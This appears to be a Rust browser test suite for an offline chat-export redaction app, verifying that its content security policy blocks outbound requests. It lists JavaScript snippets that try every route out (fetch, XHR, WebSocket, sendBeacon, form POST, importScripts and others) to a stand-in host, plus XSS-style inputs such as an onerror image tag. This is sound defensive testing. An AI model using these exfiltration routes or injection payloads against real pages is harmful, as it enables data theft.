//! Nothing leaves the machine: no request after the page has loaded, and every way out is shut, in
//! the page and inside its worker.

use serde_json::Value;
use web_tests::cdp::Channel;
use web_tests::exports::ios_text;
use web_tests::exports::written;
use web_tests::netlog::asked_by;
use web_tests::page::{Page, part, until, with_page};
use xtask::server::{Answer, Server};

use crate::steps::*;

#[tokio::test]
async fn after_loading_the_page_asks_for_nothing() {
    let origin = std::rc::Rc::new(std::cell::RefCell::new(String::new()));
    let kept = origin.clone();
    let scratch = with_page("requests", |page| async move {
        page.open().await;
        *kept.borrow_mut() = page.browser.server.url();
        ready_offline(&page).await;
        let n_before = page.browser.server.asked().len();
        assert!(
            n_before >= 6,
            "page, styles, scripts and wasm: {n_before} requests"
        );

        open_sample(&page).await;
        let search = page.find(part("searchbox", "Search messages")).await;
        page.write(&search, "kestrel").await;
        page.text_that(part("status", "Search results"), |text| {
            !text.starts_with('0')
        })
        .await;
        show_every_row(&page).await;
        go_to_message(&page, 5).await;
        redact_message(&page, 5, "COM").await;
        build(&page).await;
        let package = save_package(&page).await;
        assert!(verdict(&page, &package).await.starts_with("Valid"));

        let asked = page.browser.server.asked();
        let after: Vec<&str> = asked
            .iter()
            .skip(n_before)
            .map(|one| one.target.as_str())
            .collect();
        assert!(after.is_empty(), "asked for after loading: {after:?}");
    })
    .await;
    let origin = origin.borrow().clone();
    let asked = asked_by(&scratch.join("net-log.json"), origin.trim_end_matches('/'));
    let others: Vec<&String> = asked
        .iter()
        .filter(|url| !url.starts_with(&origin))
        .collect();
    assert!(
        asked.iter().any(|url| url.ends_with("worker_bg.wasm"))
            && asked.iter().any(|url| url.ends_with("examiner_bg.wasm")),
        "the log is whole: {asked:?}"
    );
    assert!(others.is_empty(), "asked of other hosts: {others:?}");
}

/// Walks through the thread, so that every medium is shown once.
async fn show_every_row(page: &Page) {
    let n_records = article(page, 1)
        .await
        .attr("aria-setsize")
        .await
        .unwrap()
        .unwrap();
    let n_records: u32 = n_records.parse().unwrap();
    for number in (1..=n_records).step_by(4) {
        go_to_message(page, number).await;
    }
}

/// Ways out as a script would try them. Each must end in an error. `OTHER` is a host that would
/// answer, with every permission that it could give.
const WAYS_OUT: [(&str, &str); 6] = [
    (
        "fetch",
        "fetch('OTHER/fetch').then(() => 'out', () => 'blocked')",
    ),
    (
        "fetch without an answer",
        "fetch('OTHER/no-cors', {mode: 'no-cors', method: 'POST', body: 'x'}).then(() => 'out', () => 'blocked')",
    ),
    (
        "XMLHttpRequest",
        "new Promise(done => { try { const x = new XMLHttpRequest(); x.onload = () => done('out'); x.onerror = () => done('blocked'); x.open('GET', 'OTHER/xhr'); x.send(); } catch { done('blocked'); } })",
    ),
    (
        "WebSocket",
        "new Promise(done => { try { const s = new WebSocket('OTHER/ws'.replace('http', 'ws')); s.onopen = () => done('out'); s.onerror = () => done('blocked'); } catch { done('blocked'); } })",
    ),
    (
        "EventSource",
        "new Promise(done => { try { const s = new EventSource('OTHER/events'); s.onopen = () => done('out'); s.onerror = () => { s.close(); done('blocked'); }; } catch { done('blocked'); } })",
    ),
    (
        "eval",
        // From a timer: what the debugger itself evaluates may always evaluate.
        "new Promise(done => setTimeout(() => { try { done((0, eval)('\"out\"')); } catch { done('blocked'); } }))",
    ),
];

/// Only in a worker.
const WAYS_OUT_OF_A_WORKER: [(&str, &str); 2] = [
    (
        "importScripts",
        "(() => { try { importScripts('OTHER/script.js'); return 'out'; } catch { return 'blocked'; } })()",
    ),
    (
        "a worker of its own",
        "new Promise(done => { try { const w = new Worker('OTHER/worker.js'); w.onmessage = () => done('out'); w.onerror = () => done('blocked'); } catch { done('blocked'); } })",
    ),
];

/// Only in a page. A picture and a frame report nothing useful; the count of requests decides.
const WAYS_OUT_OF_A_PAGE: [(&str, &str); 5] = [
    (
        "a picture",
        "new Promise(done => { const i = new Image(); i.onload = () => done('out'); i.onerror = () => done('blocked'); i.src = 'OTHER/picture.svg'; })",
    ),
    (
        "a script",
        "new Promise(done => { const s = document.createElement('script'); s.onload = () => done('out'); s.onerror = () => done('blocked'); s.src = 'OTHER/script.js'; document.head.append(s); })",
    ),
    (
        "a style",
        "new Promise(done => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.onload = () => done('out'); s.onerror = () => done('blocked'); s.href = 'OTHER/style.css'; document.head.append(s); })",
    ),
    (
        "a beacon",
        "(navigator.sendBeacon('OTHER/beacon', 'x'), new Promise(done => setTimeout(() => done('blocked'), 300)))",
    ),
    (
        "a form",
        "(() => { const f = document.createElement('form'); f.action = 'OTHER/form'; f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit(); f.remove(); return new Promise(done => setTimeout(() => done('blocked'), 300)); })()",
    ),
];

/// A host that answers everything, with every permission.
fn other_host() -> Server {
    Server::start(0, |asked| Answer {
        status: "200 OK",
        mime: if asked.target.ends_with(".js") {
            "text/javascript"
        } else if asked.target.ends_with(".css") {
            "text/css"
        } else if asked.target.ends_with(".svg") {
            "image/svg+xml"
        } else {
            "text/plain"
        },
        headers: vec!["Access-Control-Allow-Origin: *".to_owned()],
        body: if asked.target.ends_with(".svg") {
            b"<svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'/>".to_vec()
        } else {
            b"self.out = 1;".to_vec()
        },
    })
    .unwrap()
}

/// Of the ways out, those that the page's own host could answer, once everything is loaded.
const WAYS_TO_THE_OWN_HOST: [usize; 3] = [0, 1, 2];

fn at(script: &str, other: &Server) -> String {
    script.replace("OTHER", other.url().trim_end_matches('/'))
}

#[tokio::test]
async fn every_way_out_of_the_worker_is_shut() {
    with_page("worker-ways-out", |page| async move {
        page.open().await;
        ready_offline(&page).await;
        open_sample(&page).await;
        go_to(&page, "Redact").await;
        page.press(part("button", "Suggest what may have to be withheld"))
            .await;
        page.find(part("listbox", "Suggestions")).await;
        let n_before = page.browser.server.asked().len();
        let other = other_host();
        let mut channel = Channel::open(&page.browser.debugger);
        let url = page.current_url().await.unwrap();
        let workers = channel.workers(url.as_str());
        assert_eq!(workers.len(), 2, "the page has a worker and an examiner");
        for worker in &workers {
            assert!(
                worker.url.starts_with("blob:"),
                "started from {}",
                worker.url
            );
            for (name, script) in WAYS_OUT.iter().chain(&WAYS_OUT_OF_A_WORKER) {
                let result = channel.evaluate(worker, &at(script, &other));
                assert_eq!(result, "blocked", "{name} got out of the worker");
            }
            for (name, script) in WAYS_TO_THE_OWN_HOST.map(|at| WAYS_OUT[at]) {
                let result = channel.evaluate(worker, &at(script, &page.browser.server));
                assert_eq!(result, "blocked", "{name} reached the page's own host");
            }
        }
        assert_eq!(
            page.browser.server.asked().len(),
            n_before,
            "its host was asked"
        );
        assert_eq!(other.asked(), [], "the other host was reached");
        // The policy complains about each of these on the console: that is what was asked of it.
        page.console().await;
    })
    .await;
}

#[tokio::test]
async fn every_way_out_of_the_page_is_shut() {
    with_page("page-ways-out", |page| async move {
        page.open().await;
        ready_offline(&page).await;
        let other = other_host();
        for (name, script) in WAYS_OUT.iter().chain(&WAYS_OUT_OF_A_PAGE) {
            let result = awaited(&page, &at(script, &other)).await;
            assert_eq!(result, "blocked", "{name} got out of the page");
        }
        let n_before = page.browser.server.asked().len();
        let own = WAYS_TO_THE_OWN_HOST.map(|at| WAYS_OUT[at]);
        for (name, script) in own.iter().chain(&WAYS_OUT_OF_A_PAGE[..3]) {
            let result = awaited(&page, &at(script, &page.browser.server)).await;
            assert_eq!(result, "blocked", "{name} reached the page's own host");
        }
        assert_eq!(
            page.browser.server.asked().len(),
            n_before,
            "its host was asked"
        );
        assert_eq!(other.asked(), [], "the other host was reached");
        page.console().await;
    })
    .await;
}

/// The same attempts from a page without a policy do get out: the two tests above would notice.
#[tokio::test]
async fn without_the_policy_the_same_ways_are_open() {
    with_page("control", |page| async move {
        let bare = Server::start(0, |_| Answer {
            status: "200 OK",
            mime: "text/html",
            headers: Vec::new(),
            body: b"<!doctype html><link rel=icon href=data:,><title>bare</title><body>".to_vec(),
        })
        .unwrap();
        page.goto(&bare.url()).await.unwrap();
        let other = other_host();
        for (name, script) in WAYS_OUT.iter().chain(&WAYS_OUT_OF_A_PAGE) {
            let result = awaited(&page, &at(script, &other)).await;
            let known_to_fail = ["WebSocket", "EventSource", "a beacon", "a form"].contains(name);
            assert!(known_to_fail || result == "out", "{name}: {result}");
        }
        let asked = other.asked();
        for path in [
            "/fetch",
            "/no-cors",
            "/xhr",
            "/ws",
            "/events",
            "/picture.svg",
            "/script.js",
            "/beacon",
            "/form",
        ] {
            assert!(
                asked.iter().any(|one| one.target == path),
                "{path} was not reached: {asked:?}"
            );
        }
        page.console().await;
    })
    .await;
}

async fn awaited(page: &Page, expression: &str) -> Value {
    let script = format!(
        "const done = arguments[arguments.length - 1]; Promise.resolve({expression}).then(done, error => done(String(error)));"
    );
    page.execute_async(&script, Vec::new()).await.unwrap()
}

#[tokio::test]
async fn no_address_comes_from_an_archive() {
    with_page("addresses", |page| async move {
        page.open().await;
        let bodies = [
            ("Ada Poe", "https://example.org/one and javascript:alert(1)"),
            ("Bob Fay", "<a href=\"https://example.org/two\">two</a><img src=x onerror=alert(1)>"),
            ("Ada Poe", "\u{200e}<attached: https://example.org/three.jpg>"),
            ("Bob Fay", "\u{200e}Location: https://maps.google.com/?q=51.9,4.1"),
        ];
        let export = written(
            &page.browser.scratch,
            "WhatsApp Chat with Links.txt",
            ios_text(bodies).as_bytes(),
        );
        open_export(&page, &export).await;
        article(&page, 4).await;
        let own = page.browser.server.url();
        until("all rows are drawn", || async {
            let text = words_of(&page, 4).await;
            text.contains("maps.google.com").then_some(())
        })
        .await;
        let addresses = page
            .js("[...document.querySelectorAll('*')].flatMap(element => [...element.attributes]) \
                .filter(attribute => ['href', 'src', 'srcset', 'action', 'data', 'poster', 'formaction', 'xlink:href', 'ping'].includes(attribute.name)) \
                .map(attribute => new URL(attribute.value, document.baseURI).href)")
            .await;
        for address in addresses.as_array().unwrap() {
            let address = address.as_str().unwrap();
            assert!(
                address.starts_with(&own) || address.starts_with(&format!("blob:{own}")),
                "{address}"
            );
        }
        let n_links = page.js("document.querySelectorAll('[role=feed] a').length").await;
        assert_eq!(n_links, 0, "a message has a link");
    })
    .await;
}
